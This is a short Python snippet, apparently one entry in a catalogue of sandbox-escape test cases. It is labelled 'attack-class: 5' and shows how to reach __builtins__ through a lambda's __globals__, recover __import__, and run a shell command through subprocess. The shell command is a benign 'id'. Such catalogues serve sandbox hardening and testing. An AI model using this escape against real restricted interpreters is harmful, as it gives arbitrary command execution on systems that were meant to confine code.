# attack-class: 5
# title: (lambda: 0).__globals__
# why: a lambda's globals hold __builtins__

g = (lambda: 0).__globals__
bi = g["__builtins__"]
getter = bi.__dict__ if not isinstance(bi, dict) else bi
getter["__import__"]("subprocess").run(["sh", "-c", "id"])
